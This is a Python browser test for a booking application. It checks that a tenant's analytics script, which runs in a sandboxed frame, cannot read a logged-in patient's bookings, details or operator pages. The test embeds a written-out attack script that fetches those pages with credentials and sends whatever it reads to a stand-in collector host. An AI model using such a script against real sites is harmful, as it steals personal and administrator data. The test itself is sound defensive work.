"""The attack of security issue 16, item 1, in Chromium against a real server: a tenant
administrator's analytics script (*Avancerat*) tries to read a logged-in patient's
*Mina bokningar*, a filled-in details page and an operator page, and to send what it
read to its own host. It runs (it reports, and it hears of the page view), and every
attempt fails: the script lives in a sandboxed frame with an opaque origin."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import Engine

from connectors.store import bookings
from connectors.store.db import session_scope
from demo.store_seed import DEMO_OPERATOR, DEMO_OPERATOR_PASSWORD, DEMO_SUBDOMAIN
from tests.booking_app.booking_pages import change_settings
from tests.booking_app.login_steps import scan, settings_with_bankid
from tests.helpers import app_on_loopback, first_slots, request_for

pytestmark = pytest.mark.browser
COLLECTOR = "https://stats.example"

# The tenant's script: what an attacker who administers one tenant would save.
ATTACK = """
(function () {
  var send = function (kind, text) {
    fetch("%(collector)s/collect?kind=" + kind, {
      method: "POST", mode: "no-cors", body: String(text).slice(0, 4000)
    }).catch(function () {});
  };
  var steal = function (kind, url) {
    fetch(url, { credentials: "include" })
      .then(function (r) { return r.text(); })
      .then(function (t) { send(kind, "READ " + t); },
            function (e) { send(kind, "FAILED " + e); });
  };
  send("ran", "origin " + self.origin);  // the document's origin, not its URL's
  window.addEventListener("opus:pageview", function (e) {
    send("pageview", JSON.stringify(e.detail));
  });
  steal("mine", "/mina-bokningar");
  steal("details", "/boka/%(reference)s/uppgifter");
  steal("admin", "/admin/1/avancerat");
  steal("admin-host", "%(admin)s/admin/1/avancerat");
  try { send("parent", "READ " + window.parent.document.body.innerText); }
  catch (e) { send("parent", "FAILED " + e); }
})();
"""
STOLEN = ("mine", "details", "admin", "admin-host", "parent")


@pytest.fixture
def served(booking_store: Engine, bankid_standin) -> Iterator[int]:
    settings = settings_with_bankid(booking_store, bankid_standin).model_copy(
        update={"base_domain": "localhost"}
    )
    with app_on_loopback(settings) as port:
        yield port


def held_for_tolvan(engine: Engine) -> str:
    """A held time whose details are filled in: its reference."""
    now = datetime.now(UTC)
    with session_scope(engine) as session:
        tenant, clinic, treatment, slots = first_slots(session, days=21)
        slot = next(s for s in slots if s.starts_at > now + timedelta(days=2))
        held = bookings.hold(session, request_for(tenant, clinic, treatment, slot), now)
        held.personal_number = "191212121212"
        held.first_name, held.last_name = "Tolvan", "Tolvansson"
        held.email = "tolvan@example.se"
        return held.reference


def test_a_tenants_script_cannot_read_personal_or_operator_pages(
    chromium, served: int, booking_store: Engine, bankid_standin
) -> None:
    site = f"http://{DEMO_SUBDOMAIN}.localhost:{served}"
    admin = f"http://admin.localhost:{served}"
    reference = held_for_tolvan(booking_store)
    change_settings(
        booking_store,
        analytics_script="<script>"
        + ATTACK % {"collector": COLLECTOR, "reference": reference, "admin": admin}
        + "</script>",
    )
    context = chromium.new_context()
    reports: dict[str, str] = {}

    def collect(route) -> None:
        kind = route.request.url.partition("kind=")[2]
        reports[kind] = route.request.post_data or ""
        route.fulfill(status=204)

    context.route(f"{COLLECTOR}/**", collect)
    page = context.new_page()
    try:
        # The operator is logged in on the operator pages' origin ...
        page.goto(f"{admin}/admin/login")
        page.get_by_label("E-postadress").fill(DEMO_OPERATOR)
        page.get_by_label("Lösenord").fill(DEMO_OPERATOR_PASSWORD)
        page.get_by_role("button", name="Logga in").click()
        page.get_by_role("link", name="Tandmottagningen").wait_for()
        # ... and a patient with e-ID on the booking site, in the same browser.
        page.goto(site + "/")
        page.get_by_role("link", name="Logga in").click()
        page.get_by_role("button", name="Mobilt BankID på annan enhet").click()
        page.locator("[data-qr] svg").wait_for()
        for _ in range(5):  # a loaded machine may take longer than a QR code lives
            qr = page.evaluate("fetch('/logga-in/qr').then((r) => r.json()).then((d) => d.qr)")
            scanned = scan(bankid_standin, qr)
            if scanned.status_code == 200:
                break
        assert scanned.status_code == 200, scanned.text
        page.wait_for_url(site + "/mina-bokningar", timeout=15_000)
        assert "Tolvan" in page.content()  # the page the script is after is personal
        page.goto(f"{site}/boka/{reference}/uppgifter")
        assert "Tolvansson" in page.content()

        reports.clear()
        page.goto(site + "/")  # a page that carries the tenant's script
        deadline = time.monotonic() + 15
        while not {"ran", "pageview", *STOLEN} <= reports.keys():
            assert time.monotonic() < deadline, f"the script reported only {sorted(reports)}"
            page.wait_for_timeout(100)
    finally:
        context.close()

    assert reports["ran"] == "origin null"  # it ran, in an opaque origin
    assert json.loads(reports["pageview"]) == {"page": "start", "path": "/"}
    for kind in STOLEN:
        assert reports[kind].startswith("FAILED"), (kind, reports[kind][:300])
    sent = " ".join(reports.values())
    for personal in ("Tolvan", "191212", "tolvan@example.se", "csrf_token"):
        assert personal not in sent
